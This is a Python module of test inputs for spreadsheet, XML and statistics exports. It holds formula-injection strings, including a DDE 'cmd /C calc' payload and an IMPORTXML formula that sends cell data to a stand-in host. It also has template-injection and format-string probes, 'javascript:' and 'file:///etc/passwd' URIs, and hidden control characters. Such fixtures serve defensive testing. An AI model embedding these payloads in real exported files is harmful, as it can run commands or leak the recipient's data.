"""Texts that a spreadsheet, an XML file or a statistics program might take for something else."""

from typing import Final

FORMULAS: Final = ("=", "+", "-", "@", "＝", "＋", "－", "＠")
BODIES: Final = (
    "1+1",
    "cmd|' /C calc'!A0",
    'HYPERLINK("http://e","x")',
    "SUM(A1:A9)*1",
    'IMPORTXML(CONCAT("http://e/?v=",A1),"//a")',
)
UNSEEN: Final = (
    *("\t", "\r", "\n", "\r\n", " ", "\u00a0", "\u00ad", "\u200b", "\u200d", "\u200e", "\u200f", "\u202a"),
    *("\u202e", "\u2060", "\u2066", "\u2069", "\ufeff", "\u3000", "\u2028", "\x0b", "\x0c", "\x1c", "\x85"),
)
OTHERS: Final = (
    *(f"ก่อน{chr(code)}หลัง" for code in (*range(1, 32), 0x7F, 0x80, 0x9F, 0xFFFE, 0xFFFF)),
    *("'=1", "''", "'", "'ธรรมดา", '"', '""', '","', 'a "quoted", text', '"=1+1"', ";=1", ",=1", "|"),
    *("สองบรรทัด\nบรรทัดสอง", "\r\n\r\n", "ลงท้ายด้วยช่องว่าง  ", "  ขึ้นต้นด้วยช่องว่าง", "\\", "\\n", "\\N"),
    *("_x0041_", "_x005F_x0041_", "_x000D_", "<b>&amp;]]></b>", "<!--", "{{ 7*7 }}", "${7*7}", "%s%n"),
    *("0012", "1E5", "12345678901234567", "-5", "+66812345678", "1/2", "TRUE", "#N/A", "NULL", "nan", "None"),
    *("http://example.org/?a=1", "mailto:a@example.org", "javascript:alert(1)", "file:///etc/passwd"),
    *("\u202eกลับด้าน\u202c", "שלום עולם", "مرحبا", "\u200bซ่อน\u200b", "e\u0301", "👩‍👩‍👧‍👦", "𝒳" * 3, "กิ่" * 5),
    *("ก" * 2_000, "😀" * 500),
)
HOSTILE: Final = (
    *(f"{sign}{body}" for sign in FORMULAS for body in BODIES),
    *(f"{unseen}=1+1" for unseen in UNSEEN),
    *OTHERS,
)

#: Longer than a cell of a spreadsheet holds, of one and of two UTF-16 units a character.
LONG: Final = ("ก" * 40_000, "=" + "😀" * 20_000)
